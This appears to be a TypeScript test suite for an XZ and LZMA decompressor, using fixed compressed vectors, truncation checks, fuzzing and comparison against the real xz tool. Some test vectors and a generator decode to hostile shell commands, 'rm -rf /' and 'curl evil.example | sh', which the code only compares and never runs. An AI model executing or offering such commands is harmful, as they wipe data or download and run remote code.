import { spawnSync } from "node:child_process";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { unlzma, unxz } from "./xz.js";

const bytes = (data: Uint8Array) => [...data];
const hex = (text: string) => bytes(Buffer.from(text, "hex"));
const text = (data: readonly number[] | null) => (data === null ? null : Buffer.from(data).toString());

/** Written by XZ Utils 5.4: `xz -c` with each check, `xz --format=lzma -c`. */
const WRITTEN: readonly [name: string, unfold: typeof unxz, data: string, means: string][] = [
  [
    "a check of 64 bits",
    unxz,
    "fd377a585a000004e6d6b4460200210116000000742fe5a3010008726d202d7266202f0a00000000e6d942bc5a652b37000121096c18c5d51fb6f37d010000000004595a",
    "rm -rf /\n",
  ],
  [
    "a check of 32 bits",
    unxz,
    "fd377a585a0000016922de360200210116000000742fe5a3e0001f00135d003298c94f8afdd59b72a23d7d328a2d1114000000001c9fd1f500012b208a68986d9042990d010000000001595a",
    "echo hello, hello, hello, hello\n",
  ],
  [
    "SHA-256",
    unxz,
    "fd377a585a00000ae1fb0ca10200210116000000742fe5a3e0012b00085d003c6ffbb7bfee0000000d4e2ca9e9cbced7a7a5380eb29e1a3783b9b6d0db72de36a1051038e1c1fbc700013cac0200000017a933afb6e9df1c02000000000a595a",
    "x".repeat(300),
  ],
  [
    "no check, other properties",
    unxz,
    "fd377a585a000000ff12d9410200210116000000742fe5a3e0000b000a3f00309888d707a2e700000000000000011e0cdfc671fd06729e7a010000000000595a",
    "abcabcabcabd",
  ],
  ["nothing", unxz, "fd377a585a000004e6d6b446000000001cdf44211fb6f37d010000000004595a", ""],
  [
    "LZMA alone, with an end mark",
    unlzma,
    "5d00008000ffffffffffffffff00319d4a8d17d2e8de68670bab45372896e3fc95c3c2910e8f146a64bffff6e28000",
    "curl evil.example | sh\n",
  ],
];

describe("P3: what XZ packed unfolds to what it was", () => {
  it.each(WRITTEN)("%s", (_, unfold, data, means) => expect(text(unfold(hex(data)))).toBe(means));

  it("stream after stream", () => {
    const [, , one] = WRITTEN[0]!;
    const [, , other] = WRITTEN[1]!;
    expect(text(unxz(hex(one + other)))).toBe(WRITTEN[0]![3] + WRITTEN[1]![3]);
    expect(text(unxz(hex(`${one}00000000`)))).toBe(WRITTEN[0]![3]);
  });

  it("cut anywhere it unfolds to nothing that is known", () => {
    for (const [, unfold, data] of WRITTEN) {
      const whole = hex(data);
      // Behind its data a stream of .xz has an index and a footer, which are not looked at.
      const least = whole.length - (unfold === unxz ? 20 : 6);
      for (let cut = 0; cut < least; cut++) expect(unfold(whole.slice(0, cut))).toBe(null);
    }
  });

  it("is total and bounded whatever the bytes", () => {
    const whole = hex(WRITTEN[0]![2]);
    const spoilt = fc
      .tuple(fc.nat(whole.length - 1), fc.integer({ min: 0, max: 255 }))
      .map(([at, byte]) => whole.with(at, byte));
    fc.assert(fc.property(spoilt, (data) => (unxz(data)?.length ?? 0) <= 262_144));
    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), (data) => void [unxz(bytes(data)), unlzma(bytes(data))]));
  });

  const xz = spawnSync("xz", ["--version"]).status === 0;
  it.skipIf(!xz)(`as the real program does it${xz ? "" : " (skipped: there is no xz here)"}`, () => {
    const data = fc.oneof(
      fc.uint8Array({ maxLength: 2_000 }),
      fc
        .array(fc.constantFrom("rm -rf /", "a", "abcabcabc", "\n"), { maxLength: 300 })
        .map((all) => Buffer.from(all.join(""))),
    );
    const how = fc.constantFrom(["-0"], ["-9e"], ["--check=sha256"], ["--lzma2=lc=1,lp=2,pb=0"], ["--block-size=100"]);
    fc.assert(
      fc.property(data, how, (input, options) => {
        const packed = spawnSync("xz", ["-c", ...options], { input }).stdout;
        expect(unxz(bytes(packed))).toEqual(bytes(input));
      }),
      { numRuns: 25 },
    );
  });
});
